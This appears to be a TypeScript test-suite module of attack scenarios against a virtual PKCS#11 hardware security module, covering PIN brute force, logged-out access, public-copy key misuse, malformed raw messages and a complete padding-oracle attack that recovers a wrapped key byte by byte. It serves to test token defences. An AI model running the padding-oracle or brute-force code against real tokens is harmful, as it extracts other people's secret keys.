/** Attacks on login, session state, error answers and the message boundary. */
import {
  CKA_CLASS, CKA_DECRYPT, CKA_KEY_TYPE, CKA_PRIVATE, CKA_TOKEN, CKA_UNWRAP, CKA_VALUE, CKA_WRAP, CKK_GENERIC_SECRET,
  CKM_AES_CBC_PAD, CKO_SECRET_KEY, CKR_ARGUMENTS_BAD, CKR_ATTRIBUTE_READ_ONLY, CKR_MECHANISM_INVALID, CKR_OBJECT_HANDLE_INVALID,
  CKR_PIN_INCORRECT, CKR_PIN_LOCKED, CKR_WRAPPED_KEY_INVALID, CKU_USER, isPkcs11Error,
} from '@vhsm/pkcs11';
import type { CryptokiApi, Template } from '@vhsm/pkcs11';
import type { Scenario } from '../types.js';
import { AES_KEY_GEN, aes, off, on, recovered, victimKey } from './common.js';

export const A15: Scenario = {
  id: 'A15',
  title: 'PIN brute force',
  sequence: 'C_Login in a loop over a dictionary that ends with the right PIN',
  victim: "the user's PIN",
  recovers: 'the PIN (and with it every private key)',
  rule: 'persistent retry counter; CKR_PIN_LOCKED even for the right PIN; only the SO unlocks',
  expect: {
    spec: { status: 'refused', step: 'guess PINs from a dictionary', rv: CKR_PIN_LOCKED },
    strict: { status: 'refused', step: 'guess PINs from a dictionary', rv: CKR_PIN_LOCKED },
  },
  async run(attack) {
    await attack.attacker('log out', (p11, s) => p11.C_Logout(s));
    // Far more wrong guesses than any sane retry limit, then the right one.
    const dictionary = [...Array.from({ length: 64 }, (_, i) => `guess-${i}`), attack.ctx.userPin];
    const pin = await attack.attacker('guess PINs from a dictionary', async (p11, s) => {
      for (const guess of dictionary) {
        try {
          await p11.C_Login(s, CKU_USER, guess);
          return guess;
        } catch (e) {
          if (!(isPkcs11Error(e) && e.code === CKR_PIN_INCORRECT)) throw e;
        }
      }
      return '';
    });
    return { kind: 'recovered', value: pin, verified: pin === attack.ctx.userPin };
  },
};

export const A16: Scenario = {
  id: 'A16',
  title: 'session-state violations',
  sequence: 'C_Logout; C_EncryptInit(T) and GA(T) from the logged-out session',
  victim: 'T, a private object',
  recovers: 'use of T without the PIN',
  rule: "the spec's access matrix: private objects exist only for a logged-in user",
  expect: {
    spec: { status: 'refused', step: 'GA(T) logged out', rv: CKR_OBJECT_HANDLE_INVALID },
    strict: { status: 'refused', step: 'GA(T) logged out', rv: CKR_OBJECT_HANDLE_INVALID },
  },
  async run(attack) {
    const t = await victimKey(attack);
    await attack.attacker('log out', (p11, s) => p11.C_Logout(s));
    const [value] = await attack.attacker('GA(T) logged out', (p11, s) => p11.C_GetAttributeValue(s, t.handle, [{ type: CKA_VALUE }]));
    return recovered(t, value?.value as Uint8Array);
  },
};

export const A20: Scenario = {
  id: 'A20',
  title: 'copy to a public object',
  sequence: 'CP(T, private=false)→P; C_Logout; D(P, the victim\'s message) — as a token object, P\'s material is sealed under the device key',
  victim: 'T, a private key that needs the PIN',
  recovers: "use of T without the PIN (and, for a public token copy, T's value through the device key)",
  rule: 'a sensitive or unextractable key is private at every entry point; a copy cannot lower CKA_PRIVATE',
  expect: {
    spec: { status: 'permitted' },
    strict: { status: 'refused', step: 'CP(T, private=false)', rv: CKR_ATTRIBUTE_READ_ONLY },
  },
  async run(attack) {
    const t = await victimKey(attack, on(CKA_DECRYPT));
    const copy = await attack.attacker('CP(T, private=false)', (p11, s) => p11.C_CopyObject(s, t.handle, [off(CKA_PRIVATE), off(CKA_TOKEN)]));
    await attack.attacker('log out', (p11, s) => p11.C_Logout(s));
    const plain = await attack.attacker("D(P, the victim's message) logged out", async (p11, s) => {
      await p11.C_DecryptInit(s, t.decryption, copy);
      return p11.C_Decrypt(s, t.ciphertext);
    });
    // GCM's tag already proves the key; this says what the attacker read.
    if (!t.isMessage(plain)) throw new Error("A20: the public copy decrypted something other than the victim's message");
    return { kind: 'permitted', note: "logged out, the public copy still decrypts the victim's message: T is used without the PIN" };
  },
};

const IV0 = new Uint8Array(16);
const GENERIC: Template = [
  { type: CKA_CLASS, value: CKO_SECRET_KEY }, { type: CKA_KEY_TYPE, value: CKK_GENERIC_SECRET }, { type: CKA_TOKEN, value: false },
];

/**
 * Does X‖c unwrap under CKM_AES_CBC_PAD? A generic secret takes any length, so the answer is exactly
 * "is the padding of D(c) ⊕ X valid" (Vaudenay 2002; Bardou et al. 2012 on tokens).
 */
async function paddingValid(p11: CryptokiApi, s: number, key: number, x: Uint8Array, c: Uint8Array): Promise<boolean> {
  const query = new Uint8Array(32);
  query.set(x, 0);
  query.set(c, 16);
  try {
    const made = await p11.C_UnwrapKey(s, { mechanism: CKM_AES_CBC_PAD, parameter: IV0 }, key, query, GENERIC);
    await p11.C_DestroyObject(s, made);
    return true;
  } catch (e) {
    if (isPkcs11Error(e) && e.code === CKR_WRAPPED_KEY_INVALID) return false;
    throw e;
  }
}

/** D(c) for one block, byte by byte from the end, through the oracle. */
async function decryptBlock(p11: CryptokiApi, s: number, key: number, c: Uint8Array): Promise<Uint8Array> {
  const intermediate = new Uint8Array(16);
  for (let j = 15; j >= 0; j--) {
    const pad = 16 - j;
    const x = new Uint8Array(16);
    for (let k = j + 1; k < 16; k++) x[k] = (intermediate[k] as number) ^ pad;
    let found = false;
    for (let g = 0; g < 256 && !found; g++) {
      x[j] = g;
      if (!(await paddingValid(p11, s, key, x, c))) continue;
      if (j === 15) {
        // A valid 0x02 0x02 (or longer) ending would fool us: change the byte before and ask again.
        const check = x.slice();
        check[14] = (check[14] as number) ^ 1;
        if (!(await paddingValid(p11, s, key, check, c))) continue;
      }
      intermediate[j] = g ^ pad;
      found = true;
    }
    if (!found) throw new Error('padding oracle: no byte value gave valid padding');
  }
  return intermediate;
}

export const A17: Scenario = {
  id: 'A17',
  title: 'padding oracle',
  sequence: 'W(K,T,CBC_PAD)=b; U(K, X‖c_i, CBC_PAD) for chosen X, reading CKR_OK vs CKR_WRAPPED_KEY_INVALID',
  victim: "T, and the victim's key-encryption key K",
  recovers: "T's value, one byte per ≤256 unwrap calls",
  rule: 'no CBC_PAD / RSA_PKCS / RSA_X_509 for wrap or unwrap: integrity-checked mechanisms only',
  expect: {
    spec: { status: 'recovered' },
    strict: { status: 'refused', step: 'W(K,T) with CBC_PAD', rv: CKR_MECHANISM_INVALID },
  },
  async run(attack) {
    const t = await victimKey(attack);
    const k = await attack.victim('victim generates KEK K', (p11, s) => p11.C_GenerateKey(s, AES_KEY_GEN, aes(32, on(CKA_WRAP), on(CKA_UNWRAP))));
    const iv = new Uint8Array(16).fill(0x3c);
    const b = await attack.attacker('W(K,T) with CBC_PAD', (p11, s) => p11.C_WrapKey(s, { mechanism: CKM_AES_CBC_PAD, parameter: iv }, k, t.handle));
    const value = await attack.attacker('padding oracle on U(K, ·, CBC_PAD)', async (p11, s) => {
      const plain = new Uint8Array(32);
      for (let block = 0; block < 2; block++) {
        const previous = block === 0 ? iv : b.subarray(0, 16);
        const d = await decryptBlock(p11, s, k, b.subarray(16 * block, 16 * block + 16));
        for (let i = 0; i < 16; i++) plain[16 * block + i] = (d[i] as number) ^ (previous[i] as number);
      }
      return plain;
    });
    return recovered(t, value);
  },
};

export const A18: Scenario = {
  id: 'A18',
  title: 'bypass the client library',
  sequence: 'post raw messages: GA(T) with a type the client would never send, a polluted template…',
  victim: 'T',
  recovers: "T's value",
  rule: 'every check lives in the engine; the host validates each argument (types, shapes, own properties)',
  expect: {
    spec: { status: 'refused', step: 'raw GA(T) with a string type', rv: CKR_ARGUMENTS_BAD },
    strict: { status: 'refused', step: 'raw GA(T) with a string type', rv: CKR_ARGUMENTS_BAD },
  },
  async run(attack) {
    const t = await victimKey(attack);
    // What a hand-written postMessage could carry: the engine must not coerce '17' to CKA_VALUE.
    const raw = [{ type: String(CKA_VALUE) }] as unknown as Template;
    const [value] = await attack.attacker('raw GA(T) with a string type', (p11, s) => p11.C_GetAttributeValue(s, t.handle, raw));
    return recovered(t, value?.value as Uint8Array);
  },
};

